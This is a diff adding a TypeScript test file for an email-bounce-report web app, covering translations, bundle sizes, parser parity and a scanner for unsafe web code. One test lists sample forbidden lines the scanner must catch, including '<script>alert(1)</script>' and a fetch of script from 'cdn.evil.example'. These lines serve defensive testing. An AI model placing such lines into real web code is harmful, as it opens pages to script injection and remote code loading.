@@ -1,0 +1,108 @@
+import assert from 'node:assert/strict'
+import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { test } from 'node:test'
+import { pathToFileURL } from 'node:url'
+import { build } from 'esbuild'
+import { readReport } from '../../kb/ndr/read.ts'
+import { checkWeb, faultsOf } from '../../scripts/check-web.ts'
+import { reduced } from '../../web/reduce.ts'
+import { root } from '../helpers/root.ts'
+import { REPORT } from '../helpers/stub-server.ts'
+
+const read = (path: string) => readFileSync(join(root, path), 'utf8')
+const LOCALES = readdirSync(join(root, 'web/locales'))
+const words = (file: string) => JSON.parse(read(`web/locales/${file}`)) as Record<string, string>
+
+test('every language says everything that English says, with the same places to fill', () => {
+  const english = words('en.json')
+  const places = (text = '') => [...text.matchAll(/\{\w+\}/g)].map(([place]) => place).sort()
+  assert.equal(LOCALES.length, 14)
+  for (const file of LOCALES) {
+    const local = words(file)
+    assert.deepEqual(Object.keys(local), Object.keys(english), file)
+    for (const [key, text] of Object.entries(english)) {
+      assert.deepEqual(places(local[key]), places(text), `${file}: ${key}`)
+    }
+  }
+})
+
+test('no language has English left in it', () => {
+  const english = words('en.json')
+  for (const file of LOCALES.filter((name) => name !== 'en.json')) {
+    const local = words(file)
+    const same = Object.keys(english).filter((key) => local[key] === english[key])
+    assert.ok(same.length <= 6, `${file}: ${same.join(', ')}`)
+  }
+})
+
+test('every reason but those that are no failure has a sentence', () => {
+  const reasons = JSON.parse(read('kb/data/reasons.json')) as { id: string }[]
+  const without = reasons.map(({ id }) => id).filter((id) => !(id in words('en.json')))
+  assert.deepEqual(without, ['feedback', 'onhold', 'vacation'])
+})
+
+type Size = { readonly name: string; readonly gzip: number; readonly budget?: number }
+
+test('nothing weighs more than it may', () => {
+  const sizes = JSON.parse(read('dist/web/sizes.json')) as Size[]
+  assert.ok(sizes.filter(({ budget }) => budget !== undefined).length >= 18)
+  for (const { name, gzip, budget } of sizes) {
+    if (budget !== undefined) assert.ok(gzip <= budget, `${name}: ${gzip} of ${budget}`)
+  }
+})
+
+test('the sources hold no way from a string to HTML, style or script', () => {
+  assert.deepEqual(checkWeb(join(root, 'web')), [])
+})
+
+test('the search for forbidden words finds them', () => {
+  const bad = [
+    'a.innerHTML = b',
+    'el.insertAdjacentHTML("beforeend", x)',
+    'node.style.color = "red"',
+    'h("div", { "style": x })',
+    '<a style="x">',
+    '<script>alert(1)</script>',
+    'parent.postMessage(x, "*")',
+    'fetch("https://cdn.evil.example/x.js")',
+    'new Function("x")',
+  ]
+  for (const line of bad) assert.equal(faultsOf(line).length > 0, true, line)
+  assert.deepEqual(faultsOf('node.textContent = text'), [])
+})
+
+test("the browser's parser reads as the server's does", async () => {
+  const folder = mkdtempSync(join(tmpdir(), 'bouncewise-'))
+  try {
+    const outfile = join(folder, 'read.mjs')
+    await build({
+      entryPoints: [join(root, 'kb/ndr/read.ts')],
+      bundle: true,
+      format: 'esm',
+      outfile,
+      plugins: [
+        {
+          name: 'data',
+          setup: (plugin) =>
+            plugin.onLoad({ filter: /[\\/]kb[\\/]data[\\/].*\.json$/ }, ({ path }) => ({
+              contents: reduced(path, readFileSync(path, 'utf8')),
+              loader: 'json',
+            })),
+        },
+      ],
+    })
+    const browser = (await import(pathToFileURL(outfile).href)) as { readReport: typeof readReport }
+    const inputs = [REPORT.text, ...fixtures()]
+    for (const input of inputs) assert.deepEqual(browser.readReport(input), readReport(input))
+    assert.equal(readReport(REPORT.text).kind, 'failure')
+  } finally {
+    rmSync(folder, { recursive: true })
+  }
+})
+
+const fixtures = (): Uint8Array[] =>
+  readdirSync(join(root, 'test/fixtures/ndr'), { recursive: true, encoding: 'utf8' })
+    .filter((file) => /\.(eml|txt|msg|mbox)$/.test(file))
+    .map((file) => readFileSync(join(root, 'test/fixtures/ndr', file)))
